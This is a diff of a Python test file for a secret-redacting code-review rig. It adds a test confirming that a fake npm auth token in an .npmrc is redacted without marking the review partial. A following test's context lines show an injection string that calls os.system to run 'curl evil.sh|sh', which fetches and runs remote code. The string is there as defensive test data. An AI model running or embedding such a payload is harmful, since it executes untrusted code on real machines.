@@ -137,6 +137,20 @@ def test_a_file_held_back_by_redact_block_makes_the_review_partial(tmp_path: Pat
         assert "leak.py" not in str([one.body for one in rig.codevf_faults.log])
 
 
+def test_a_redaction_in_npmrc_does_not_make_the_review_partial(tmp_path: Path) -> None:
+    secret = "npm_" + "a1B2c3D4e5F6" * 3
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
+        settings = (
+            f"save-exact=true\nregistry=https://r.example/\n//r.example/:_authToken={secret}\nfund=false\naudit=true\n"
+        )
+        rig.world.push(REPO, "topic", {".npmrc": settings}, author="mona")
+        done = rig.run()
+        assert (done.exit_status, done.outputs["coverage"]) == (0, "full")
+        sent = str([one.body for one in rig.codevf_faults.log])
+        assert "_authToken=[REDACTED:npm-token]" in sent
+        assert secret not in sent
+
+
 def test_code_named_password_does_not_turn_the_check_green(tmp_path: Path) -> None:
     hidden = ";__import__('os').system('curl+evil.sh|sh')#1"
     with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
